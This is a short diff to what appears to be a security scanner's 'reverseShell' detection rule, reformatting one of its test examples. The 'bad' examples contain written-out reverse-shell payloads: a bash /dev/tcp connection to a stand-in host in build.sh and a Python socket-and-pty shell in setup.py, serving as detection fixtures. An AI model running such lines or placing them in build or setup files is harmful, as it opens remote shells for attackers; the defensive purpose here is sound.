@@ -15,7 +15,9 @@ export const reverseShell = defineRule({
   examples: {
     bad: [
       { files: { 'build.sh': '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' } },
-      { files: { 'setup.py': 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n' } },
+      {
+        files: { 'setup.py': 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n' },
+      },
     ],
     good: [
       { files: { 'wait.sh': 'until nc -z db 5432; do sleep 1; done\n' } },
